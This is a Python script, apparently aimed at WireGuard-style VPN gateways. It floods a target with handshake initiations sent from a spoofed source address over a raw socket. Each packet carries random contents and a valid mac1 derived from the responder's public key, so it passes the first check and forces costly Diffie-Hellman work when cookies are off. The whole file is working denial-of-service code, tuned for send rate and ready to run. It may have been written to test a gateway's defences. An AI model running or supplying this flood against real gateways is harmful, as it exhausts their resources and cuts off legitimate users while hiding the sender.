"""Floods GW:PORT with handshake initiations from SRC:SPORT (raw socket, spoofed) for SECONDS:
148-byte messages with random contents and a valid mac1 for the responder's base64 public key
RESPONDER_PUB (anyone who knows that key can make one), so each passes the cheapest check and
would cost the responder Diffie-Hellman without cookies. Prints the number sent and the rate."""
import base64
import hashlib
import os
import socket
import struct
import sys
import time

src, sport, gw, port, pub, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
mac1_key = hashlib.sha256(b"mac1----" + base64.b64decode(pub)).digest()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
s.bind((src, 0))
pool = []
for i in range(256):   # precomputed: the sender is limited by the socket, not by hashing
    body = b"\x01\x00\x00\x00" + os.urandom(112)
    msg = body + hashlib.blake2b(body, key=mac1_key, digest_size=16).digest() + bytes(16)
    pool.append(struct.pack("!HHHH", sport, port, 8 + len(msg), 0) + msg)
sent = 0
start = time.time()
end = start + seconds
while time.time() < end:
    for d in pool:
        s.sendto(d, (gw, 0))
    sent += len(pool)
elapsed = time.time() - start
print(f"{sent} {sent / elapsed:.0f}")
